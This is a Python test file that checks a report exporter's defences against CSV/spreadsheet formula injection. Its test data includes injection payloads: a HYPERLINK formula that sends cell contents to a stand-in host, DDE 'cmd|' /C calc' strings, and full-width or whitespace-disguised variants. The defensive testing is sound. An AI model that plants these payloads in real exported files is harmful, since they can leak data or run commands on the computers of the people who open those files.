"""Report files never carry a formula made of user text (OWASP "CSV injection"): a CSV text
cell a spreadsheet would evaluate is quoted with ``'``; an XLSX text cell is a string.
Numbers, negative amounts included, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from services.common.report_files import AMOUNT_FORMAT, COUNT_FORMAT, Table, to_csv, to_xlsx

ATTACKS = [
    '=HYPERLINK("http://x/?d="&C2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _table(names: list[str]) -> Table:
    rows: list[list[object]] = [[name, 3, Decimal("-12.50")] for name in names]
    rows.append(["合计", 3 * len(names), Decimal("-12.50") * len(names)])
    return Table(
        "报表", ["产品名称", "数量", "金额（元）"], rows, [None, COUNT_FORMAT, AMOUNT_FORMAT]
    )


def _csv_rows(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_csv_text_cell_that_would_be_a_formula_is_quoted(name: str) -> None:
    rows = _csv_rows(_table([name]))
    assert rows[1] == ["'" + name, "3", "-12.50"]


# Spreadsheets read these as formulas too: full-width signs (NFKC gives = + - @), white
# space before the sign, and both.
DISGUISED_ATTACKS = [
    '＝HYPERLINK("http://x/?d="&C2,"详情")',  # full-width equals sign
    "＋1+cmd|' /C calc'!A0",  # full-width plus sign
    "－2+3+cmd|' /C calc'!A0",  # full-width hyphen-minus
    "＠SUM(1+1)*cmd|' /C calc'!A0",  # full-width commercial at
    "\ufe66HYPERLINK(1)",  # small equals sign
    " =1+1",
    "  =1+1",
    "\u3000=1+1",  # ideographic space
    "\u00a0@SUM(1+1)",  # no-break space
    "\n=1+1",
    " ＝1+1",
    "\u2003＋1+cmd|' /C calc'!A0",  # em space, full-width plus
]


@pytest.mark.parametrize("name", DISGUISED_ATTACKS)
def test_a_csv_text_cell_that_would_be_a_formula_once_normalised_is_quoted(name: str) -> None:
    rows = _csv_rows(_table([name]))
    assert rows[1] == ["'" + name, "3", "-12.50"]


@pytest.mark.parametrize(
    "name",
    ["杭州西湖科技", "CRM 标准版", "a=b", "12-3", "-12.50", "+86", " 12.50", "１２－３", " ＋1"],
)
def test_csv_text_a_spreadsheet_would_not_evaluate_is_left_as_typed(name: str) -> None:
    assert _csv_rows(_table([name]))[1][0] == name


def test_csv_numbers_negative_ones_included_stay_numbers() -> None:
    rows = _csv_rows(_table(["产品"]))
    assert rows[-1] == ["合计", "3", "-12.50"]


def test_xlsx_text_cells_are_strings_never_formulas() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table(ATTACKS)))).active
    cells = [row for row in sheet.iter_rows(min_row=2, max_row=len(ATTACKS) + 1)]
    assert [(name.data_type, name.value) for name, _, _ in cells] == [
        ("s", attack.replace("\r", "\n"))
        for attack in ATTACKS  # XML reads CR as LF
    ]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_numbers_negative_amounts_included_stay_numbers() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table(["产品"])))).active
    _, quantity, amount = sheet[2]
    assert (quantity.data_type, quantity.value) == ("n", 3)
    assert (amount.data_type, amount.value, amount.number_format) == ("n", -12.5, AMOUNT_FORMAT)
